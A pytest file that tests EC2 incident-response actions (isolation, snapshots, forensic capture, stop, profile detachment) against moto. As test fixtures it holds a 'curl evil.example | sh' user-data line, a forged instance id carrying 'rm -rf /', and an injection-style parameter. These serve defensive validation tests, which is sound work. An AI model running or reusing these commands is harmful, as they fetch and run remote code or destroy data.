"""EC2 actions on moto: a VPC, an instance with two network interfaces in an Auto Scaling group and
in three target groups (instance and ip targets), an instance profile; apply, idempotency, rollback,
the two-step isolation order, faults (throttling, AccessDenied part-way) and offline plans.

The fixture is built through its own boto3 session, so ``recorder`` sees only the actions' calls.
moto unions an instance's launch-time security groups into every attached interface's groups, so
the launch template names none and each interface's groups are set per interface.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import boto3
import pytest
from botocore.exceptions import ClientError

from chalicelib.actions import REGISTRY, ActionContext, ApiCall, Status
from chalicelib.evidence import MemoryEvidenceStore, S3EvidenceStore
from chalicelib.findings import Resource, normalize
from chalicelib.guardrails import Guardrails
from tests.conftest import ACCOUNT, REGION, corpus_event, inject_fault
from tests.functional.actions.lifecycle import assert_lifecycle
from tests.functional.actions.permission_table import needed

NOW = datetime(2026, 11, 23, 12, 0, 0, tzinfo=UTC)
AMI = "ami-12c6146b"
TRUST = json.dumps(
    {
        "Version": "2012-10-17",
        "Statement": [{"Effect": "Allow", "Principal": {"Service": "ec2.amazonaws.com"}, "Action": "sts:AssumeRole"}],
    }
)


def instance_target(iid: str, **details: str) -> Resource:
    """The resource a GuardDuty finding names for an instance."""
    arn = f"arn:aws:ec2:{REGION}:{ACCOUNT}:instance/{iid}"
    return Resource("ec2-instance", id=iid, arn=arn, account=ACCOUNT, region=REGION, details=details)


@dataclass
class World:
    ec2: Any
    autoscaling: Any
    elbv2: Any
    iam: Any
    vpc: str
    subnet: str
    app: str
    admin: str
    db: str
    web_tg: str
    admin_tg: str
    ip_tg: str
    asg_name: str
    instance: str
    primary_eni: str
    primary_ip: str
    second_eni: str
    second_ip: str
    other: str
    profile_arn: str
    minimal_profile_arn: str

    def target(self, instance: str | None = None) -> Resource:
        return instance_target(instance or self.instance, vpc=self.vpc)

    def describe(self, instance: str | None = None) -> dict[str, Any]:
        found: dict[str, Any] = self.ec2.describe_instances(InstanceIds=[instance or self.instance])["Reservations"][0][
            "Instances"
        ][0]
        return found

    def group(self, name: str) -> dict[str, Any] | None:
        found = self.ec2.describe_security_groups(
            Filters=[{"Name": "vpc-id", "Values": [self.vpc]}, {"Name": "group-name", "Values": [name]}]
        )["SecurityGroups"]
        return found[0] if found else None


@pytest.fixture
def world(moto_aws: None) -> World:
    """The fixture, built through a session that ``recorder`` does not watch."""
    session = boto3.session.Session(region_name=REGION)
    ec2, autoscaling = session.client("ec2"), session.client("autoscaling")
    elbv2, iam = session.client("elbv2"), session.client("iam")
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24", AvailabilityZone=f"{REGION}a")["Subnet"]["SubnetId"]

    def group(name: str, port: int) -> str:
        group_id: str = ec2.create_security_group(GroupName=name, Description=name, VpcId=vpc)["GroupId"]
        ec2.authorize_security_group_ingress(
            GroupId=group_id,
            IpPermissions=[
                {"IpProtocol": "tcp", "FromPort": port, "ToPort": port, "IpRanges": [{"CidrIp": "10.0.0.0/8"}]}
            ],
        )
        return group_id

    app, admin, db = group("app", 443), group("admin", 22), group("db", 5432)

    def target_group(name: str, port: int, kind: str = "instance", in_vpc: str = vpc) -> str:
        arn: str = elbv2.create_target_group(Name=name, Protocol="HTTP", Port=port, VpcId=in_vpc, TargetType=kind)[
            "TargetGroups"
        ][0]["TargetGroupArn"]
        return arn

    web_tg, admin_tg, ip_tg = target_group("web", 80), target_group("admin", 8443), target_group("ips", 9000, "ip")
    elsewhere = ec2.create_vpc(CidrBlock="10.9.0.0/16")["Vpc"]["VpcId"]
    target_group("elsewhere", 80, in_vpc=elsewhere)  # another VPC: never scanned

    ec2.create_launch_template(
        LaunchTemplateName="web-template", LaunchTemplateData={"ImageId": AMI, "InstanceType": "t3.micro"}
    )
    autoscaling.create_auto_scaling_group(
        AutoScalingGroupName="web-asg",
        LaunchTemplate={"LaunchTemplateName": "web-template", "Version": "$Latest"},
        MinSize=1,
        MaxSize=4,
        DesiredCapacity=2,
        VPCZoneIdentifier=subnet,
        TargetGroupARNs=[web_tg],
    )
    instance = autoscaling.describe_auto_scaling_groups(AutoScalingGroupNames=["web-asg"])["AutoScalingGroups"][0][
        "Instances"
    ][0]["InstanceId"]
    primary = ec2.describe_instances(InstanceIds=[instance])["Reservations"][0]["Instances"][0]["NetworkInterfaces"][0]
    ec2.modify_network_interface_attribute(NetworkInterfaceId=primary["NetworkInterfaceId"], Groups=[app, admin])
    second = ec2.create_network_interface(SubnetId=subnet, Groups=[db])["NetworkInterface"]
    ec2.attach_network_interface(NetworkInterfaceId=second["NetworkInterfaceId"], InstanceId=instance, DeviceIndex=1)
    elbv2.register_targets(TargetGroupArn=admin_tg, Targets=[{"Id": instance, "Port": 8443}])
    elbv2.register_targets(TargetGroupArn=ip_tg, Targets=[{"Id": second["PrivateIpAddress"], "Port": 9000}])
    ec2.modify_instance_attribute(InstanceId=instance, Attribute="instanceInitiatedShutdownBehavior", Value="terminate")

    iam.create_role(RoleName="web-role", AssumeRolePolicyDocument=TRUST)
    reader = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*"}]}
    policy = iam.create_policy(PolicyName="S3Reader", PolicyDocument=json.dumps(reader))["Policy"]["Arn"]
    iam.attach_role_policy(RoleName="web-role", PolicyArn=policy)
    profile = iam.create_instance_profile(InstanceProfileName="web-profile")["InstanceProfile"]["Arn"]
    iam.add_role_to_instance_profile(InstanceProfileName="web-profile", RoleName="web-role")
    iam.create_role(RoleName="ssm-only", AssumeRolePolicyDocument=TRUST)
    minimal = iam.create_instance_profile(InstanceProfileName="ssm-only")["InstanceProfile"]["Arn"]
    iam.add_role_to_instance_profile(InstanceProfileName="ssm-only", RoleName="ssm-only")
    ec2.associate_iam_instance_profile(IamInstanceProfile={"Arn": profile}, InstanceId=instance)

    other = ec2.run_instances(ImageId=AMI, MinCount=1, MaxCount=1, SubnetId=subnet)["Instances"][0]["InstanceId"]
    return World(
        ec2, autoscaling, elbv2, iam, vpc, subnet, app, admin, db, web_tg, admin_tg, ip_tg, "web-asg", instance,
        primary["NetworkInterfaceId"], primary["PrivateIpAddress"], second["NetworkInterfaceId"],
        second["PrivateIpAddress"], other, profile, minimal,
    )  # fmt: skip


@pytest.fixture
def finding() -> Any:
    """A real GuardDuty EC2 finding: the context of the actions (finding id and type for tags, evidence)."""
    return normalize(corpus_event("guardduty/gd_c7n_Backdoor-EC2-C-CActivity-B-DNS.json"))[0]


def context(finding: Any, aws_clients: Any, **extra: Any) -> ActionContext:
    extra.setdefault("evidence", MemoryEvidenceStore())
    return ActionContext(finding=finding, playbook="test", incident_id="inc-1", aws=aws_clients, now=NOW, **extra)


def isolation_view(w: World) -> dict[str, Any]:
    """The real state isolation changes, read independently of the action."""
    instance = w.describe()
    membership = w.autoscaling.describe_auto_scaling_instances(InstanceIds=[w.instance])["AutoScalingInstances"]
    group = w.autoscaling.describe_auto_scaling_groups(AutoScalingGroupNames=[w.asg_name])["AutoScalingGroups"][0]
    ours = {w.instance, w.primary_ip, w.second_ip}

    def registered(arn: str) -> list[tuple[str, int]]:
        health = w.elbv2.describe_target_health(TargetGroupArn=arn)["TargetHealthDescriptions"]
        return sorted((d["Target"]["Id"], d["Target"]["Port"]) for d in health if d["Target"]["Id"] in ours)

    attribute = w.ec2.describe_instance_attribute
    return {
        "groups": {
            e["NetworkInterfaceId"]: sorted(g["GroupId"] for g in e["Groups"]) for e in instance["NetworkInterfaces"]
        },
        "lifecycle": membership[0]["LifecycleState"] if membership else None,
        "desired_capacity": group["DesiredCapacity"],
        "targets": {arn: registered(arn) for arn in (w.web_tg, w.admin_tg, w.ip_tg)},
        "termination_protection": attribute(InstanceId=w.instance, Attribute="disableApiTermination")[
            "DisableApiTermination"
        ]["Value"],
        "shutdown": attribute(InstanceId=w.instance, Attribute="instanceInitiatedShutdownBehavior")[
            "InstanceInitiatedShutdownBehavior"
        ]["Value"],
    }


def isolation_groups(w: World) -> tuple[dict[str, Any], dict[str, Any]]:
    isolation, transit = w.group(f"clampdown-isolation-{w.vpc}"), w.group(f"clampdown-isolation-all-access-{w.vpc}")
    assert isolation is not None and transit is not None
    return isolation, transit


def eni_moves(recorder: Any) -> list[tuple[str, list[str]]]:
    """(interface, groups) of every ModifyNetworkInterfaceAttribute made, in order, as botocore received them."""
    return [
        (params["NetworkInterfaceId"], list(params["Groups"]))
        for _, operation, params in recorder.calls
        if operation == "ModifyNetworkInterfaceAttribute"
    ]


def test_isolate_instance_lifecycle(world: World, aws_clients: Any, recorder: Any, finding: Any) -> None:
    """The contract, with the VPC's groups already there (an earlier incident isolated another instance)."""
    ctx = context(finding, aws_clients)
    action = REGISTRY["ec2.isolate-instance"]({})
    first = action.apply(ctx, world.target(world.other))
    assert first.status == Status.CONTAINED, first.to_dict()

    views: list[dict[str, Any]] = []

    def read() -> dict[str, Any]:
        views.append(isolation_view(world))
        return views[-1]

    result = assert_lifecycle(action, ctx, world.target(), read, recorder)
    original, contained = views[0], views[2]  # before plan, after apply (see assert_lifecycle)
    isolation, _ = isolation_groups(world)
    assert contained == {
        "groups": {world.primary_eni: [isolation["GroupId"]], world.second_eni: [isolation["GroupId"]]},
        "lifecycle": "Standby",
        "desired_capacity": 1,  # 2 > MinSize 1: lowered, so the group launches no replacement
        "targets": {world.web_tg: [], world.admin_tg: [], world.ip_tg: []},
        "termination_protection": True,
        "shutdown": "stop",
    }
    assert original["groups"] == {world.primary_eni: sorted([world.app, world.admin]), world.second_eni: [world.db]}
    assert original["targets"] == {
        world.web_tg: [(world.instance, 80)],
        world.admin_tg: [(world.instance, 8443)],
        world.ip_tg: [(world.second_ip, 9000)],
    }
    assert (original["lifecycle"], original["termination_protection"], original["shutdown"]) == (
        "InService",
        False,
        "terminate",
    )
    assert isolation["IpPermissions"] == [] and isolation["IpPermissionsEgress"] == []
    assert result.output["isolation_groups"] == {world.vpc: isolation["GroupId"]}
    assert not [c for c in recorder.calls if c[1] == "DescribeTargetHealth" and "elsewhere" in json.dumps(c[2])]


def test_isolation_order_two_steps_per_interface(world: World, aws_clients: Any, recorder: Any, finding: Any) -> None:
    """Evidence first, then out of the group and the load balancers, then all-access → isolation per interface."""
    recorder.clear()
    result = REGISTRY["ec2.isolate-instance"]({}).apply(context(finding, aws_clients), world.target())
    assert result.status == Status.CONTAINED, result.to_dict()
    isolation, transit = isolation_groups(world)
    iso, all_access = isolation["GroupId"], transit["GroupId"]
    assert eni_moves(recorder) == [
        (world.primary_eni, [all_access]),
        (world.primary_eni, [iso]),
        (world.second_eni, [all_access]),
        (world.second_eni, [iso]),
    ]
    writes = [op for _, op, _ in recorder.calls if not op.startswith("Describe")]
    assert writes == [
        "ModifyInstanceAttribute",  # termination protection
        "ModifyInstanceAttribute",  # OS shutdown stops, not terminates
        "EnterStandby",  # before anything its health checks could see
        "DeregisterTargets",
        "DeregisterTargets",
        "DeregisterTargets",
        "CreateSecurityGroup",  # isolation group
        "RevokeSecurityGroupEgress",  # its default outbound rule
        "CreateSecurityGroup",  # all-access group
        "AuthorizeSecurityGroupIngress",
        "AuthorizeSecurityGroupEgress",
        "ModifyNetworkInterfaceAttribute",
        "ModifyNetworkInterfaceAttribute",
        "ModifyNetworkInterfaceAttribute",
        "ModifyNetworkInterfaceAttribute",
    ]
    # The transit group really allows everything both ways (IPv4 and IPv6): that is what untracks flows.
    for direction in ("IpPermissions", "IpPermissionsEgress"):
        ranges = {r["CidrIp"] for p in transit[direction] if p["IpProtocol"] == "-1" for r in p["IpRanges"]}
        ranges |= {r["CidrIpv6"] for p in transit[direction] if p["IpProtocol"] == "-1" for r in p["Ipv6Ranges"]}
        assert ranges == {"0.0.0.0/0", "::/0"}, direction
    tags = {t["Key"]: t["Value"] for t in isolation.get("Tags", [])}
    assert tags["clampdown:managed"] == "isolation"
    print(f"\nec2.isolate-instance first apply: {len(recorder.calls)} API calls: {recorder.operations}")


def test_isolation_creates_groups_as_planned(world: World, aws_clients: Any, recorder: Any, finding: Any) -> None:
    """In a VPC without the groups, the plan names them by placeholder and apply fills in the created ids."""
    ctx = context(finding, aws_clients)
    action = REGISTRY["ec2.isolate-instance"]({"asg": "leave", "deregister_targets": False})
    plan = action.plan(ctx, world.target(world.other))
    assert world.group(f"clampdown-isolation-{world.vpc}") is None, "planning created a group"
    rendered = [str(c) for c in plan.calls]
    assert any(f"<isolation group of {world.vpc}>" in c for c in rendered), rendered
    result = action.apply(ctx, world.target(world.other))
    assert result.status == Status.CONTAINED, result.to_dict()
    isolation, transit = isolation_groups(world)
    filled = [
        c.replace(f"<isolation group of {world.vpc}>", isolation["GroupId"]).replace(
            f"<all-access group of {world.vpc}>", transit["GroupId"]
        )
        for c in rendered
    ]
    assert filled == [str(c) for c in result.calls_made]


def test_isolation_repairs_a_loosened_isolation_group(
    world: World, aws_clients: Any, recorder: Any, finding: Any
) -> None:
    ctx = context(finding, aws_clients)
    action = REGISTRY["ec2.isolate-instance"]({})
    assert action.apply(ctx, world.target()).status == Status.CONTAINED
    isolation, _ = isolation_groups(world)
    world.ec2.authorize_security_group_ingress(
        GroupId=isolation["GroupId"],
        IpPermissions=[{"IpProtocol": "tcp", "FromPort": 22, "ToPort": 22, "IpRanges": [{"CidrIp": "0.0.0.0/0"}]}],
    )
    again = action.apply(ctx, world.target())
    assert again.status == Status.CONTAINED, again.to_dict()
    assert [c.operation for c in again.calls_made] == ["RevokeSecurityGroupIngress"]
    assert isolation_groups(world)[0]["IpPermissions"] == []


def test_isolation_detach_mode_at_group_minimum(world: World, aws_clients: Any, recorder: Any, finding: Any) -> None:
    """Detached at the group's minimum: the desired capacity is kept (a replacement), rollback attaches it back."""
    world.autoscaling.update_auto_scaling_group(AutoScalingGroupName=world.asg_name, MinSize=2)
    ctx = context(finding, aws_clients, guard=Guardrails())
    action = REGISTRY["ec2.isolate-instance"]({"asg": "detach"})
    recorder.clear()
    plan = action.plan(ctx, world.target())
    assert plan.after is not None and plan.after["auto_scaling"] is None, "detached: no longer a member"
    result = action.apply(ctx, world.target())
    assert result.after is not None and result.after["auto_scaling"] is None
    assert result.status == Status.CONTAINED, result.to_dict()
    detach = next(c for c in result.calls_made if c.operation == "DetachInstances")
    assert detach.params["ShouldDecrementDesiredCapacity"] is False and "replacement" in detach.purpose
    assert isolation_view(world)["lifecycle"] is None
    rolled = action.rollback(ctx, world.target(), result.before or {}, wrote=result.after)
    assert rolled.status == Status.ROLLED_BACK, rolled.to_dict()
    assert "AttachInstances" in [c.operation for c in rolled.calls_made]
    assert isolation_view(world)["lifecycle"] == "InService"
    assert needed((svc, op) for svc, op, _ in recorder.calls) <= set(action.permissions)


def test_throttling_is_retried_and_containment_completes(
    world: World, aws_clients: Any, boto_session: Any, recorder: Any, finding: Any
) -> None:
    """RequestLimitExceeded once (HTTP 503, at ``before-send``, so botocore's standard retries see it)."""
    fault = inject_fault(boto_session, "ec2", "ModifyNetworkInterfaceAttribute", "RequestLimitExceeded", status=503)
    attempts: list[str] = []
    boto_session.events.register_first(  # runs before the fault: counts every HTTP attempt
        "before-send.ec2.ModifyNetworkInterfaceAttribute", lambda request, **_: attempts.append(request.url)
    )
    recorder.clear()
    result = REGISTRY["ec2.isolate-instance"]({}).apply(context(finding, aws_clients), world.target())
    assert result.status == Status.CONTAINED, result.to_dict()
    calls = len(eni_moves(recorder))
    assert fault.sent == 1 and calls == 4 and len(attempts) == calls + 1, "the throttled call was sent again"
    isolation, _ = isolation_groups(world)
    assert set(map(tuple, isolation_view(world)["groups"].values())) == {(isolation["GroupId"],)}


def test_access_denied_part_way_then_rerun_completes(
    world: World, aws_clients: Any, recorder: Any, finding: Any
) -> None:
    """Denied at the second interface's last step: failed, with what changed and how to undo it; a re-run finishes."""
    ctx = context(finding, aws_clients)
    original = isolation_view(world)
    ec2 = aws_clients.client("ec2", account=None, region=REGION)

    def deny(params: dict[str, Any], **_: Any) -> None:
        if params.get("NetworkInterfaceId") == world.second_eni and params.get("Groups") == [isolation_id()]:
            raise ClientError({"Error": {"Code": "UnauthorizedOperation", "Message": "denied"}}, "Modify")

    def isolation_id() -> str | None:
        group = world.group(f"clampdown-isolation-{world.vpc}")
        return group["GroupId"] if group else None

    ec2.meta.events.register("before-parameter-build.ec2.ModifyNetworkInterfaceAttribute", deny)
    failed = REGISTRY["ec2.isolate-instance"]({}).apply(ctx, world.target())
    assert failed.status == Status.FAILED and failed.error_code == "UnauthorizedOperation", failed.to_dict()
    made = [c.operation for c in failed.calls_made]
    assert made[:6] == ["ModifyInstanceAttribute"] * 2 + ["EnterStandby"] + ["DeregisterTargets"] * 3
    assert made[-3:] == ["ModifyNetworkInterfaceAttribute"] * 3  # eni 1: both steps; eni 2: step 1 only
    undo = "\n".join(failed.undo)
    assert undo.count("elasticloadbalancing:RegisterTargets(") == 3 and '"Port": 8443' in undo, failed.undo
    for expected in (
        f'NetworkInterfaceId="{world.second_eni}", Groups=["{world.db}"]',
        "autoscaling:ExitStandby",
        'DisableApiTermination={"Value": false}',
        'Attribute="instanceInitiatedShutdownBehavior", Value="terminate"',
    ):
        assert expected in undo, (expected, failed.undo)
    ec2.meta.events.unregister("before-parameter-build.ec2.ModifyNetworkInterfaceAttribute", deny)

    # A Lambda re-run: a fresh action object, the state read again; only what is missing is done.
    rerun = REGISTRY["ec2.isolate-instance"]({}).apply(ctx, world.target())
    assert rerun.status == Status.CONTAINED, rerun.to_dict()
    assert [(c.operation, c.params) for c in rerun.calls_made] == [
        ("ModifyNetworkInterfaceAttribute", {"NetworkInterfaceId": world.second_eni, "Groups": [isolation_id()]})
    ], "the interface left in the all-access group goes straight to isolation"

    # The re-run's before-state holds the transit group for eni 2: rolling back from it never reopens it.
    unsafe = REGISTRY["ec2.isolate-instance"]({}).rollback(ctx, world.target(), rerun.before or {})
    assert unsafe.status == Status.FAILED and unsafe.error_code == "OriginalGroupsUnknown", unsafe.to_dict()
    assert isolation_view(world)["groups"][world.second_eni] == [isolation_id()]
    rolled = REGISTRY["ec2.isolate-instance"]({}).rollback(ctx, world.target(), failed.before or {})
    assert rolled.status == Status.ROLLED_BACK, rolled.to_dict()
    assert isolation_view(world) == original


def test_snapshot_volumes(world: World, aws_clients: Any, recorder: Any, finding: Any) -> None:
    instance = world.ec2.run_instances(
        ImageId=AMI,
        MinCount=1,
        MaxCount=1,
        SubnetId=world.subnet,
        BlockDeviceMappings=[
            {"DeviceName": "/dev/sda1", "Ebs": {"VolumeSize": 8}},
            {"DeviceName": "/dev/sdf", "Ebs": {"VolumeSize": 20}},
        ],
    )["Instances"][0]["InstanceId"]
    volumes = {m["Ebs"]["VolumeId"]: m["DeviceName"] for m in world.describe(instance)["BlockDeviceMappings"]}
    ctx = context(finding, aws_clients)
    action = REGISTRY["ec2.snapshot-volumes"]({})
    recorder.clear()

    def ours() -> dict[str, dict[str, str]]:
        mine = [{"Name": "tag:clampdown:instance", "Values": [instance]}]
        snapshots = world.ec2.describe_snapshots(OwnerIds=["self"], Filters=mine)["Snapshots"]
        return {s["VolumeId"]: {t["Key"]: t["Value"] for t in s.get("Tags", [])} for s in snapshots}

    plan = action.plan(ctx, world.target(instance))
    assert [c.operation for c in plan.calls] == ["CreateSnapshots"] and ours() == {}
    result = action.apply(ctx, world.target(instance))
    assert result.status == Status.CONTAINED, result.to_dict()
    assert [str(c) for c in result.calls_made] == [str(c) for c in plan.calls]
    print(f"\nec2.snapshot-volumes first apply: {len(recorder.calls)} API calls: {recorder.operations}")
    tags = ours()
    assert set(tags) == set(volumes)
    for volume_tags in tags.values():
        assert volume_tags["clampdown:incident"] == "inc-1"
        assert volume_tags["clampdown:finding"] == finding.id
        assert volume_tags["clampdown:instance"] == instance
    assert {(s["volume_id"], s["device"]) for s in result.output["snapshots"]} == set(volumes.items())
    assert all(s["snapshot_id"].startswith("snap-") for s in result.output["snapshots"])

    again = action.apply(ctx, world.target(instance))
    assert again.status == Status.ALREADY_CONTAINED and again.calls_made == []
    rolled = action.rollback(ctx, world.target(instance), result.before or {})
    assert rolled.status == Status.SKIPPED and "cannot be rolled back" in (rolled.reason or "")
    assert set(ours()) == set(volumes), "a rollback never deletes evidence"

    # A snapshot lost (or still missing after a partial run): only that volume is copied again.
    lost = next(s for s in result.output["snapshots"] if s["device"] == "/dev/sdf")
    world.ec2.delete_snapshot(SnapshotId=lost["snapshot_id"])
    repaired = action.apply(ctx, world.target(instance))
    assert repaired.status == Status.CONTAINED, repaired.to_dict()
    assert [(c.operation, c.params["VolumeId"]) for c in repaired.calls_made] == [("CreateSnapshot", lost["volume_id"])]
    # Another incident gets its own copies.
    other = action.apply(
        ActionContext(finding=finding, incident_id="inc-2", aws=aws_clients, now=NOW), world.target(instance)
    )
    assert other.status == Status.CONTAINED
    assert needed((svc, op) for svc, op, _ in recorder.calls) <= set(action.permissions)


def test_capture_forensics(world: World, aws_clients: Any, recorder: Any, finding: Any) -> None:
    world.ec2.modify_instance_attribute(
        InstanceId=world.instance, UserData={"Value": base64.b64encode(b"#!/bin/sh\ncurl evil.example | sh\n")}
    )
    store = MemoryEvidenceStore()
    ctx = context(finding, aws_clients, evidence=store)
    action = REGISTRY["ec2.capture-forensics"]({})
    recorder.clear()
    plan = action.plan(ctx, world.target())
    assert store.objects == {}
    result = action.apply(ctx, world.target())
    assert result.status == Status.DONE, result.to_dict()
    print(f"\nec2.capture-forensics first apply: {len(recorder.calls)} API calls: {recorder.operations}")
    assert [c.operation for c in result.calls_made] == [c.operation for c in plan.calls]
    ref = result.output["evidence"]
    assert ref == "memory://incidents/inc-1/ec2.capture-forensics/" + world.instance + "/capture.json"
    document = json.loads(store.get(ref))
    assert document["instance"]["InstanceId"] == world.instance
    assert "curl evil.example" in document["user_data"]["text"]
    assert document["console_output"]["output"]  # AWS sends base64 (decoded into "text"); moto sends plain text
    assert {e["NetworkInterfaceId"] for e in document["network_interfaces"]} == {world.primary_eni, world.second_eni}
    assert {g["GroupId"] for g in document["security_groups"]} == {world.app, world.admin, world.db}
    assert document["volumes"] and document["instance_profile"]["Arn"] == world.profile_arn
    assert [p["PolicyName"] for p in document["roles"]["web-role"]["attached_policies"]] == ["S3Reader"]
    assert result.output["bytes"] == len(store.get(ref))

    again = action.apply(ctx, world.target())
    assert again.status == Status.ALREADY_CONTAINED and again.calls_made == [], "one capture per incident"
    assert needed((svc, op) for svc, op, _ in recorder.calls) <= set(action.permissions)

    missing = action.apply(context(finding, aws_clients, evidence=None), world.target())
    assert missing.status == Status.FAILED and missing.error_code == "EvidenceStoreMissing"
    assert "no evidence store is configured" in (missing.reason or "")


def test_capture_forensics_in_the_s3_evidence_bucket(world: World, aws_clients: Any, finding: Any) -> None:
    s3 = boto3.session.Session(region_name=REGION).client("s3")
    s3.create_bucket(Bucket="evidence")
    s3.put_bucket_versioning(Bucket="evidence", VersioningConfiguration={"Status": "Enabled"})
    store = S3EvidenceStore("evidence", aws_clients, region=REGION)
    ctx = context(finding, aws_clients, evidence=store)
    action = REGISTRY["ec2.capture-forensics"]({})
    result = action.apply(ctx, world.target())
    assert result.status == Status.DONE and "?versionId=" in result.output["evidence"], result.to_dict()
    assert json.loads(store.get(result.output["evidence"]))["instance_id"] == world.instance
    assert action.apply(ctx, world.target()).status == Status.ALREADY_CONTAINED


def test_stop_instance(world: World, aws_clients: Any, recorder: Any, finding: Any) -> None:
    action = REGISTRY["ec2.stop-instance"]({})

    def state() -> str:
        return str(world.describe(world.other)["State"]["Name"])

    result = assert_lifecycle(action, context(finding, aws_clients), world.target(world.other), state, recorder)
    assert result.before == {"instance_id": world.other, "state": "running"}
    assert "memory" in action.summary


def test_stop_refuses_an_instance_its_auto_scaling_group_would_replace(
    world: World, aws_clients: Any, finding: Any
) -> None:
    ctx = context(finding, aws_clients)
    refused = REGISTRY["ec2.stop-instance"]({}).apply(ctx, world.target())
    assert refused.status == Status.SKIPPED and "Standby" in (refused.reason or ""), refused.to_dict()
    assert world.describe()["State"]["Name"] == "running"
    assert REGISTRY["ec2.isolate-instance"]({}).apply(ctx, world.target()).status == Status.CONTAINED
    assert REGISTRY["ec2.stop-instance"]({}).apply(ctx, world.target()).status == Status.CONTAINED


@pytest.mark.parametrize("params", [{}, {"replace_with": "ssm-only"}])
def test_detach_instance_profile(
    params: dict[str, str], world: World, aws_clients: Any, recorder: Any, finding: Any
) -> None:
    def profile() -> str | None:
        found = world.ec2.describe_iam_instance_profile_associations(
            Filters=[{"Name": "instance-id", "Values": [world.instance]}]
        )["IamInstanceProfileAssociations"]
        return next((str(a["IamInstanceProfile"]["Arn"]) for a in found), None)

    action = REGISTRY["ec2.detach-instance-profile"](params)
    result = assert_lifecycle(action, context(finding, aws_clients), world.target(), profile, recorder)
    assert result.before is not None and result.before["profile_arn"] == world.profile_arn
    expected = world.minimal_profile_arn if params else None
    assert result.after is not None and result.after["profile_arn"] == expected


ACTIONS = sorted(name for name in REGISTRY if name.startswith("ec2."))


@pytest.mark.parametrize("name", ACTIONS)
def test_missing_instance_fails_with_aws_code(name: str, aws_clients: Any, finding: Any) -> None:
    result = REGISTRY[name]({}).apply(context(finding, aws_clients), instance_target("i-0123456789abcdef0"))
    assert result.status == Status.FAILED and result.error_code == "InvalidInstanceID.NotFound", result.to_dict()
    assert result.calls_made == [] and result.undo == []


@pytest.mark.parametrize("name", ACTIONS)
def test_terminated_instance_is_skipped(name: str, aws_clients: Any, recorder: Any, finding: Any) -> None:
    ec2 = boto3.session.Session(region_name=REGION).client("ec2")
    vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
    subnet = ec2.create_subnet(VpcId=vpc, CidrBlock="10.0.1.0/24")["Subnet"]["SubnetId"]
    gone = ec2.run_instances(ImageId=AMI, MinCount=1, MaxCount=1, SubnetId=subnet)["Instances"][0]["InstanceId"]
    ec2.terminate_instances(InstanceIds=[gone])
    result = REGISTRY[name]({}).apply(context(finding, aws_clients), instance_target(gone))
    assert result.status == Status.SKIPPED and "terminated" in (result.reason or ""), result.to_dict()
    assert recorder.operations == ["ec2:DescribeInstances"]


@pytest.mark.parametrize("name", ACTIONS)
def test_protected_or_malformed_targets_are_skipped(name: str, aws_clients: Any, recorder: Any, finding: Any) -> None:
    guard = Guardrails()
    protected = Resource("ec2-instance", id="i-0123456789abcdef0", account=ACCOUNT, tags={"clampdown:protected": "1"})
    forged = Resource("ec2-instance", id="i-1; rm -rf /", account=ACCOUNT)
    ctx = context(finding, aws_clients, guard=guard)
    for target, reason in ((forged, "valid EC2 instance id"), (protected, "protected")):
        action = REGISTRY[name]({})
        result = action.apply(ctx, target)
        if reason == "protected" and not action.changes_aws:
            # Reading forensics changes nothing, so guardrails let it through (here: no such instance).
            assert result.error_code == "InvalidInstanceID.NotFound", result.to_dict()
            continue
        assert result.status == Status.SKIPPED and reason in (result.reason or ""), result.to_dict()
        assert recorder.calls == [], "a skipped step makes no AWS call"


@pytest.mark.parametrize("name", ACTIONS)
def test_offline_plan_names_every_call(name: str) -> None:
    """``clampdown simulate`` plans without AWS: the calls are listed, what would be looked up is a placeholder."""
    finding = normalize(corpus_event("guardduty/gd_sumologic-docs_Recon-EC2-PortProbeUnprotectedPort.json"))[0]
    target = finding.resources_of("ec2-instance")[0]
    plan = REGISTRY[name]({}).plan(ActionContext(finding=finding, incident_id="inc-1", now=NOW), target)
    assert plan.calls and plan.before is None and not plan.refused, plan.to_dict()
    text = "\n".join(str(c) for c in plan.calls)
    expected: dict[str, Callable[[str], bool]] = {
        "ec2.isolate-instance": lambda t: (
            "<isolation group of vpc-c9c4f0ae>" in t
            and "<each target group holding i-0d6c314027f74dc82>" in t
            and "AutoScalingGroupName=nodes.k8s.travellogic.info" in t
        ),
        "ec2.snapshot-volumes": lambda t: "CreateSnapshots" in t,
        "ec2.capture-forensics": lambda t: "<role of nodes.k8s.travellogic.info>" in t,
        "ec2.stop-instance": lambda t: "StopInstances" in t,
        "ec2.detach-instance-profile": lambda t: "<instance profile association of i-0d6c314027f74dc82>" in t,
    }
    assert expected[name](text), text
    assert all(isinstance(c, ApiCall) and c.permission in REGISTRY[name].permissions for c in plan.calls)


def test_offline_isolation_order(finding: Any) -> None:
    target = Resource(
        "ec2-instance",
        id="i-0123456789abcdef0",
        details={"vpc_id": "vpc-1", "network_interface_ids": ["eni-a", "eni-b"]},
    )
    plan = REGISTRY["ec2.isolate-instance"]({}).plan(ActionContext(finding=finding), target)
    moves = [
        (c.params["NetworkInterfaceId"], c.params["Groups"])
        for c in plan.calls
        if c.operation.startswith("ModifyNetwork")
    ]
    assert moves == [
        ("eni-a", ["<all-access group of vpc-1>"]),
        ("eni-a", ["<isolation group of vpc-1>"]),
        ("eni-b", ["<all-access group of vpc-1>"]),
        ("eni-b", ["<isolation group of vpc-1>"]),
    ]


def test_rendered_parameters_are_checked_again(world: World, aws_clients: Any, finding: Any) -> None:
    """A parameter rendered from a finding cannot smuggle a group name or profile past the schema."""
    bad = REGISTRY["ec2.isolate-instance"]({"isolation_group_name": "sg-evil name"})
    assert bad.apply(context(finding, aws_clients), world.target()).error_code == "InvalidParameter"
    swap = REGISTRY["ec2.detach-instance-profile"]({"replace_with": "x' or 1=1"})
    assert swap.apply(context(finding, aws_clients), world.target()).error_code == "InvalidParameter"
    assert isolation_view(world)["lifecycle"] == "InService"
